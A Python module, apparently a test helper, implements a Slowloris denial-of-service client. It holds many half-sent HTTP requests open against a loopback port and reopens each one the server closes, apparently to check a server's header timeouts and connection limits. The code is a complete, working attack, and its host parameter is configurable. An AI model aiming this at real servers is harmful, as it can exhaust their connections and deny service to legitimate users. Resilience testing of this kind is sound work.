"""Slowloris: connections that start a request and never finish its headers, held open.

:class:`Slowloris` keeps ``count`` such connections to one loopback port for as long as it
runs: a connection the server closes (its header timeout, a connection cap) is opened
again at once, as an attacker would. One thread, one epoll selector; nothing is read but
the server's closing.
"""

from __future__ import annotations

import selectors
import socket
import threading
import time

PARTIAL = b"GET /v2/health/live HTTP/1.1\r\nHost: x\r\nX-Slow: "


class Slowloris:
    def __init__(self, port: int, count: int, host: str = "127.0.0.1") -> None:
        self.port, self.count, self.host = port, count, host
        self.opened = 0  # connections opened in all (reopened ones included)
        self.refused = 0  # connects that failed
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)

    def __enter__(self) -> Slowloris:
        for _ in range(self.count):
            self._open()
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(30)
        for key in list(self._selector.get_map().values()):
            self._selector.unregister(key.fileobj)
            key.fileobj.close()
        self._selector.close()

    @property
    def held(self) -> int:
        return len(self._selector.get_map())

    def wait_held(self, timeout_s: float = 30.0) -> bool:
        """Whether all ``count`` connections are open (within ``timeout_s``)."""
        give_up = time.monotonic() + timeout_s
        while self.held < self.count and time.monotonic() < give_up:
            self._stop.wait(0.05)
        return self.held >= self.count

    def _open(self) -> None:
        try:
            sock = socket.create_connection((self.host, self.port), timeout=5)
            sock.sendall(PARTIAL)
        except OSError:
            self.refused += 1
            return
        sock.setblocking(False)
        self._selector.register(sock, selectors.EVENT_READ)
        self.opened += 1

    def _run(self) -> None:
        while not self._stop.is_set():
            for key, _ in self._selector.select(timeout=0.2):
                sock = key.fileobj
                try:
                    data = sock.recv(65536)
                except OSError:
                    data = b""
                if not data:  # closed by the server: reopen, as the attacker does
                    self._selector.unregister(sock)
                    sock.close()
                    self._open()
